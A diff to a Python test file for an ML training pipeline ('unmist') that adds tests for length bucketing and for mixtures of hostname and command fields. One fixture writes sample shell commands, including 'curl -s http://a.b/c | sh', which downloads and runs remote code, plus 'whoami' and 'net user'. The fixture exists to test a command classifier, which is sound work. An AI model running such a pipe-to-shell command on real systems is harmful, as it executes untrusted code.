@@ -1,14 +1,17 @@
 """The mixture draws every row once an epoch, in the same order every time."""
 
+import shutil
 from pathlib import Path
 
 import numpy as np
 import pytest
+import zstandard
 
 from unmist.errors import InputError
 from unmist.text import Tokenizer, normalize
 from unmist.train import corpus
-from unmist.train.mixture import MAX_TOKENS, Mixture, prepare, withheld
+from unmist.train.mixture import MAX_TOKENS, Mixture, even, prepare, withheld
+from unmist.train.pretrain import FIELD_SHARES, Recipe, mixture_weights
 
 TASK = "host-category"
 LABELS = ["education", "gambling", "news"]
@@ -127,4 +130,47 @@ def test_batches_have_one_length_and_allowed_labels(mixture: Mixture) -> None:
 
 def test_no_data(tmp_path: Path, tokenizer_file: Path) -> None:
     with pytest.raises(InputError, match="no pretrain/hostname"):
-        prepare(tmp_path, Tokenizer(tokenizer_file), "hostname", [], tmp_path / "m.safetensors")
+        prepare(tmp_path, Tokenizer(tokenizer_file), ["hostname"], [], tmp_path / "m.safetensors")
+
+
+def test_few_lengths_are_kept_and_both_ends() -> None:
+    kept = {length: even(list(range(length))) for length in range(1, 700)}
+    assert len({len(row) for row in kept.values()}) <= 32 + 8 + 10
+    for length, row in kept.items():
+        assert row[0] == 0
+        assert row[-1] == length - 1
+        assert min(length, MAX_TOKENS) - 16 < len(row) <= min(length, MAX_TOKENS)
+        if length <= 32:
+            assert len(row) == length
+
+
+def test_several_fields(data_folder: Path, tokenizer_file: Path, tmp_path: Path) -> None:
+    """Each field kind has a question of its own, and its tasks come right after it."""
+    shutil.copytree(data_folder, tmp_path / "data")
+    for name in ("one", "two"):
+        path = tmp_path / f"data/pretrain/command/{name}.txt.zst"
+        path.parent.mkdir(exist_ok=True)
+        path.write_bytes(zstandard.compress(b"whoami\nnet user\ncurl -s http://a.b/c | sh\n" * 9))
+    tokenizer, output = Tokenizer(tokenizer_file), tmp_path / "m.safetensors"
+    prepare(tmp_path / "data", tokenizer, ["command", "hostname"], [TASK], output)
+    mixture = Mixture(output)
+    assert [(p.name, p.field, p.task, p.question, p.first) for p in mixture.parts] == [
+        ("one", "command", False, 0, 0),
+        ("two", "command", False, 0, 0),
+        *((label, "hostname", False, 1, 2) for label in LABELS),
+        (TASK, "hostname", True, 2, 5),
+    ]
+    assert mixture.classes == 8
+    opened = {
+        part.name: set(mixture.tokens[mixture.offsets[part.start : part.stop]].tolist())
+        for part in mixture.parts
+    }
+    assert opened["one"] == {tokenizer.field_id("command")}
+    assert opened[TASK] == {tokenizer.field_id("hostname")}
+    assert set(mixture.labels[mixture.parts[1].start : mixture.parts[1].stop].tolist()) == {1}
+    weights = mixture_weights(mixture, Recipe(), 0.5)
+    lengths = [mixture.lengths[p.start : p.stop].mean() for p in mixture.parts]
+    tokens = np.array(weights) * lengths / np.dot(weights, lengths)
+    share = FIELD_SHARES["command"] / (FIELD_SHARES["command"] + FIELD_SHARES["hostname"])
+    assert tokens[:2].sum() == pytest.approx(share)
+    assert tokens[-1] == pytest.approx((1 - share) / 2)
